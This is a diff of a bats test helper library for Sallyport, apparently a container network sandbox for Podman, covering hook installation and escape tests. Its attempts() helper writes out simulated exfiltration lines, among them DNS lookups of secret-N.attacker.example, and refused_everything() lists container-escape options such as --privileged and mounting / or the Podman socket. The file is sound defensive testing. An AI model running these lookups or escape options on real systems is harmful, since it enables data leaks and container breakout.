@@ -5,9 +5,10 @@
 # of its own (tests/engines/machine) is private; storage, networks and containers are its own as well. A library for
 # bats files; after common.bash. RUNTIME is what Podman, or sallyport-runtime in front of it, starts.
 #
-#   podman_up                     configuration, storage, the image $IMAGE, the network "named"
-#   podman_hooks VARIANT [PIN...] installs the hook: VARIANT is sallyport, sallyport-mandatory, or none; PIN goes to the
-#                                 end of its command line
+#   podman_up [OPTION...]         storage, the image $IMAGE, the network "named", and what `sallyport install podman
+#                                 OPTION...` makes of it: hook and runtimes
+#   podman_hooks [OPTION...]      another hook: as of `sallyport install podman OPTION...`
+#   podman_no_hooks               none
 #   podman_down                   removes all of it
 #   podman ARGUMENT...            the distribution's client
 #   box [OPTION...] COMMAND...    a container that asks for the network of the tests, run and removed
@@ -26,13 +27,12 @@ BOX=(--annotation "io.sallyport.network=$NETWORK")
 
 podman()
 {
-    /usr/bin/podman "$@" </dev/null 3>&-
+    /usr/bin/podman "$@" 3>&-
 }
 
 podman_configure()
 {
     mkdir -p "$PODMAN_HOOKS" "$WORK/podman"
-    # By default Podman 4.3 reads only /usr/share/containers/oci/hooks.d.
     cat >/etc/containers/containers.conf <<CONF
 [containers]
 init_path = "$(type -P catatonit)"
@@ -42,7 +42,6 @@ network_backend = "netavark"
 runtime = "$RUNTIME"
 cgroup_manager = "cgroupfs"
 events_logger = "none"
-hooks_dir = ["$PODMAN_HOOKS"]
 CONF
     cat >/etc/containers/storage.conf <<CONF
 [storage]
@@ -69,19 +68,27 @@ podman_up()
     podman_configure
     podman_image
     podman network create named
+    ln -s "$(type -P "$RUNTIME")" /etc/sallyport/runtime
+    podman_hooks "$@"
 }
 
-# Only our hook is between Podman and the program: it keeps what the program says, which Podman and crun do not show.
+podman_no_hooks()
+{
+    rm -f "$PODMAN_HOOKS"/* "$WORK/podman/sallyport-hook"
+}
+
+# Then only a shell comes between Podman and the hook: it keeps what the hook says, which Podman and crun do not show.
 podman_hooks()
 {
-    local variant=$1 program=$WORK/podman/sallyport-hook
-    shift
-    rm -f "$PODMAN_HOOKS"/*
-    [[ $variant != none ]] || return 0
+    local program=$WORK/podman/sallyport-hook file
+    podman_no_hooks
+    "$SALLYPORT" install podman "$@" >"$WORK/podman/installed"
     printf '#!/bin/bash\nexec %q "$@" 2> >(tee -a %q >&2)\n' "$HOOK" "$WORK/hook.said" >"$program"
     chmod 755 "$program"
-    jq --arg program "$program" '.hook.path = $program | .hook.args += $ARGS.positional' --args -- "$@" \
-        <"$SALLYPORT_BUILD_DIRECTORY/packaging/hooks.d/$variant.json" >"$PODMAN_HOOKS/sallyport.json"
+    for file in "$PODMAN_HOOKS"/*; do
+        cp "$file" "$WORK/podman/hook.json"
+        jq --arg program "$program" '.hook.path = $program' <"$WORK/podman/hook.json" >"$file"
+    done
 }
 
 podman_remove_all()
@@ -97,6 +104,8 @@ podman_down()
     podman rmi --all --force >/dev/null
     umount "$WORK/podman/storage/overlay" 2>/dev/null || true
     rm -rf --one-file-system "$WORK/podman"
+    "$SALLYPORT" install podman --undo >/dev/null
+    rm -f /etc/sallyport/runtime
     find /sys/fs/cgroup -depth -type d -path "*$PODMAN_CGROUPS*" -exec rmdir {} + 2>/dev/null || true
 }
 
@@ -126,7 +135,7 @@ attempts()
 curl -sS -m 10 --cacert /etc/ca.pem -o /dev/null -w 'allowed %{http_code}\n' https://api.openai.com/
 /probe tcp 203.0.113.$1 443 --timeout-ms 1000
 nslookup secret-$1.attacker.example
-nslookup secret-$1.attacker.example 198.51.100.53
+nslookup straight-$1.attacker.example 198.51.100.53
 /probe socket 17 3 0x0300
 /probe socket 2 3 1
 SCRIPT
@@ -136,7 +145,7 @@ SCRIPT
 arrived()
 {
     grep "^203.0.113.$1 " "$WORK/internet/arrivals" || true
-    grep "^secret-$1\." "$WORK/internet/queries" || true
+    grep "^\(secret\|straight\)-$1\." "$WORK/internet/queries" || true
 }
 
 # walled OPTION...: with these options of `podman run`, without Sallyport the attempts arrive; with it only the allowed
@@ -145,7 +154,8 @@ walled()
 {
     local number=$((100 + BATS_TEST_NUMBER))
     run control "$@" "$IMAGE" sh -c "$(attempts "$number")"
-    [[ $(arrived "$number") == *"203.0.113.$number 443"*"secret-$number"* ]] || fail "without Sallyport: $output"
+    [[ $(arrived "$number") == *"203.0.113.$number 443"*"secret-$number"*"straight-$number"* ]] ||
+        fail "without Sallyport: $output"
     sealed "$@"
 }
 
@@ -166,15 +176,70 @@ says_sealed()
     [[ -z $(arrived "$1") ]] || fail "arrived: $(arrived "$1")"
 }
 
-# refused_box TEXT OPTION...: does not start; the hook says why in one line, and Podman where to find it.
+# lacks_network_capabilities: `$output` is a line of /proc/PID/status.
+lacks_network_capabilities()
+{
+    (((16#${output##*[[:space:]]} & (1 << 12 | 1 << 13)) == 0)) || fail "$output"
+}
+
+# refused_box TEXT OPTION...: does not start, and the reason is one line: what the runtime says is Podman's own message;
+# what the hook says is not shown by Podman (at precreate) or crun (later), which is why the log has it.
 refused_box()
 {
     local text=$1
     shift
     rm -f "$WORK/hook.said"
     run box "$@" "$IMAGE" echo started
-    [[ $status -ne 0 && $output != *$'\n'started* && $output != started* ]] || fail "started: $output"
-    eventually test -s "$WORK/hook.said"
-    [[ $(wc -l <"$WORK/hook.said") -eq 1 ]] || fail "expected one line: $(<"$WORK/hook.said")"
-    grep -qF -- "$text" "$WORK/hook.said" || fail "expected \`$text\` in: $(<"$WORK/hook.said")"
+    [[ $status -ne 0 && $'\n'$output != *$'\n'started* ]] || fail "started: $output"
+    if [[ -e $WORK/podman/sallyport-hook ]]; then
+        eventually test -s "$WORK/hook.said"
+        output=$(<"$WORK/hook.said")
+    fi
+    [[ $(grep -c 'sallyport: ' <<<"$output") -eq 1 ]] || fail "expected one line: $output"
+    says "$text"
+}
+
+# What no `podman run` gets past.
+refused_everything()
+{
+    mkdir -p /run/podman
+    [[ -S /run/podman/podman.sock ]] ||
+        python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("/run/podman/podman.sock")'
+    refused_box "CAP_SYS_ADMIN" --privileged
+    refused_box "CAP_SYS_ADMIN" --cap-add ALL
+    refused_box "drop --network host" --network host
+    refused_box "drop --pid host" --pid host
+    refused_box "drop --ipc host" --ipc host
+    refused_box "podman.sock" --volume /run/podman/podman.sock:/run/podman/podman.sock
+    refused_box "mount /run holds" --volume /run:/host/run
+    refused_box "mount / holds" --volume /:/host
+    refused_box "/dev/net/tun" --device /dev/net/tun
+    refused_box "kernel.core_pattern" --security-opt unmask=ALL
+    refused_box "run.oci.seccomp" --annotation run.oci.seccomp_bpf_data=AAAA
+}
+
+kube_pod()
+{
+    cat <<YAML
+apiVersion: v1
+kind: Pod
+metadata: {name: pod}
+spec:
+  containers: [{name: container, image: $IMAGE, command: [/bin/sleep, "600"]}]
+YAML
+}
+
+# What containers with a network leave on a machine, one thing a line; but for Podman's own rules of a network.
+podman_traces()
+{
+    ip -o link show type veth | grep -v spt-
+    find /run/netns -name 'netns-*'
+    iptables-save | grep -e DNAT -e dport
+} || true
+
+podman_after_test()
+{
+    witnesses_end
+    podman_remove_all
+    eventually no_hub_links
 }
